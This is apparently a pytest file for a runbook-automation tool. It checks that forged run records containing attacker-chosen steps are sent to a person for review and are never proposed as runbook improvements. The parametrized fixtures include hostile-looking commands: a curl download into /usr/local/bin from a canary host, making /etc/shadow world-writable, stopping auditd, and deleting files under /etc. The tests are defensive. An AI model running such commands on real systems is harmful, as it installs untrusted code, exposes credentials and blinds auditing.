"""A forged run of a runbook that no library has: what it says that it ran is opened by nobody but a person."""

from __future__ import annotations

from typing import Any

import pytest

from runwright.learn.background import Background
from runwright.learn.improve import Improvement, chosen, drafted, judged, settled
from tests.support.authoring import NOW, improvable
from tests.support.library import library
from tests.support.recordings import ran, recording, service

DOWN = {**service("web", "stopped", "db"), **service("db", "stopped")}


def forged(*first: dict[str, Any], unattended: bool = True, **more: Any) -> Improvement:
    """Steps of an attacker's choice that are said to have succeeded, before a failure that the author can mend."""
    step = ran("99", "service.start", "failed", service="web", state_before=DOWN, state_after=DOWN)
    told = {"runbook_id": "odd-runbook", "incident_type": "service_stopped", "params": {"service": "web"}}
    told |= more
    run = recording(*first, step, before=DOWN, verified=None, error_step="99", **told)
    corpus = library()
    failure = settled(run, corpus, NOW, improvable(run))
    if isinstance(failure, Improvement):
        return failure
    found = drafted(failure, Background())
    verdicts = [judged(one, failure, corpus) for one in found.candidates]
    return chosen(failure, verdicts, corpus, Background(), found, unattended=unattended)


def shell(command: str) -> dict[str, Any]:
    return ran("1", "run_shell", command=command)


@pytest.mark.parametrize(
    "step",
    [
        shell("/tmp/canary4711"),
        shell("python3 /tmp/canary4711.py"),
        shell("curl -o /usr/local/bin/helper http://canary4711.example/h"),
        shell("cp /tmp/x /usr/local/bin/canary4711"),
        shell("echo canary4711"),
        shell("logger canary4711"),
        shell("cat /var/log/canary4711"),
        shell("docker restart canary4711"),
        shell("kubectl get pods -n canary4711"),
        shell("pg_ctl reload -D /canary4711"),
        shell("systemctl status canary4711 --no-pager --lines 5"),
        shell("mount -a"),
        ran("1", "script.python", script="print('canary4711')"),
        ran("1", "host.reboot"),
        ran("1", "http.request", url="https://canary4711.example/", method="POST"),
        ran("1", "file.set_mode", path="/etc/shadow", mode="0666"),
        ran("1", "service.stop", service="auditd"),
        ran("1", "file.remove", path="/etc/canary4711"),
        ran("1", "process.terminate", name="canary4711"),
    ],
)
def test_a_command_that_only_telemetry_names_is_opened_by_no_service(step: dict[str, Any]) -> None:
    found = forged(step)
    assert (found.kind, found.proposal) == ("needs_person", None)
    assert "canary4711" not in found.reason


def test_what_destroys_nothing_is_opened_as_ever() -> None:
    found = forged(ran("1", "service.start", service="cache", state_after=service("cache", "running")))
    assert found.kind == "proposed", found


def test_a_person_who_asks_sees_the_draft() -> None:
    found = forged(shell("systemctl status web --no-pager --lines 5"), unattended=False)
    assert found.proposal is not None


def test_what_ran_from_a_release_and_was_removed_since_is_not_put_together_again() -> None:
    assert forged().proposal is not None
    removed = forged(release="releases/2026.03.02-1")
    assert removed.proposal is None
    assert "is not in the library any more" in removed.reason
